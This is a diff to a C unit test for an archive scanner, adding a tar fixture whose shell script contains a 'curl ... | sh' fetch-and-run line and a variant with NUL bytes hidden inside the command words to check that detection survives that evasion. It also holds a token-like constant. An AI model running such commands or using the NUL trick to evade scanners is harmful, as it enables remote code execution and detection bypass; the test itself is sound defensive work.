@@ -18,6 +18,9 @@
 
 #define TOKEN "ghp_R2d5Zk9hV1pLbE1xT3BuUWRzYUJjRGVmR2hJ"
 #define TAR_TEXT "#!/bin/sh\necho setting up\ncurl -s https://198.51.100.23/x | sh\n"
+/* The same, NULs inside its words: sh drops them (sizeof: NULs and all). */
+static const char tar_nul[] = "#!/bin/sh\necho setting up\ncu\0rl -s "
+    "https://198.51.100.23/x | s\0h\n";
 
 static struct rule_set *rs;
 static struct scan_engine *engine;
@@ -288,6 +291,7 @@ tar_fd(void)
 	dynbuf_init(&b, 1 << 20);
 	tar_add(&b, "run.sh", TAR_TEXT, strlen(TAR_TEXT));
 	tar_add(&b, "tool.bin", bin, sizeof(bin));
+	tar_add(&b, "nul.sh", tar_nul, sizeof(tar_nul) - 1);
 	ck_assert_int_eq(dynbuf_add(&b, zero, sizeof(zero)), 0);
 	ck_assert_int_eq(write(fd, b.data, b.len), (ssize_t)b.len);
 	dynbuf_free(&b);
@@ -332,7 +336,6 @@ START_TEST(t_member_bytes_kept_for_text)
 
 	ck_assert_int_eq(scan_launcher_start(&l, engine, 30), 0);
 	scan_tar(l, &items, &fl);
-	ck_assert_uint_eq(count_rule(&fl, "test-curl-pipe-shell"), 1);
 	it = item_of(&items, "x.tar!/run.sh");
 	ck_assert_ptr_nonnull(it->content);
 	ck_assert_uint_eq(it->content_len, strlen(TAR_TEXT));
@@ -340,6 +343,13 @@ START_TEST(t_member_bytes_kept_for_text)
 	it = item_of(&items, "x.tar!/tool.bin");
 	ck_assert_ptr_null(it->content);
 	ck_assert_str_ne(it->type, "text/plain");
+	/* Text read with its NULs dropped (found as sh reads it): the
+	 * reviewer is given its bytes as they are, NULs and all. */
+	ck_assert_uint_eq(count_rule(&fl, "test-curl-pipe-shell"), 2);
+	it = item_of(&items, "x.tar!/nul.sh");
+	ck_assert_ptr_nonnull(it->content);
+	ck_assert_uint_eq(it->content_len, sizeof(tar_nul) - 1);
+	ck_assert_mem_eq(it->content, tar_nul, sizeof(tar_nul) - 1);
 	scan_launcher_stop(l);
 	scan_item_list_free(&items);
 	finding_list_free(&fl);
